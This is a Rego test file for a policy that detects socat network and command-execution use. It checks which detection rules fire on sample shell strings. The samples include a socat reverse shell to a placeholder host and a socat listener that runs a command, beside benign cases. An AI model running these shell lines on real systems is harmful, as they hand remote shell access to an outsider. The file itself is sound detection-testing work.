package regent.program.socat_test

import data.regent.fact_test as fact
import data.regent.program.socat as room

# What stands in the shell text, its facts as far as the rules look at them, and
# the rules that fire.
cases := {
	"socat TCP:host.example.com:1 EXEC:/bin/sh": [{"commands": [{"program": "socat", "operands": ["TCP:host.example.com:1", "EXEC:/bin/sh"]}]}, {"socat.connects", "socat.runs"}],
	"socat - TCP:localhost:80": [{"commands": [{"program": "socat", "operands": ["-", "TCP:localhost:80"]}]}, {"socat.connects"}],
	"socat TCP-LISTEN:1,fork SYSTEM:id": [{"commands": [{"program": "socat", "operands": ["TCP-LISTEN:1,fork", "SYSTEM:id"]}]}, {"socat.connects", "socat.runs"}],
	"socat -V": [{"commands": [{"program": "socat", "options": [["-V", ""]], "help_only": true}]}, set()],
}

test_rules[text] if {
	some text, [facts, fires] in cases
	{f.rule | some f in room.findings} == fires with input as fact.document(facts)
}
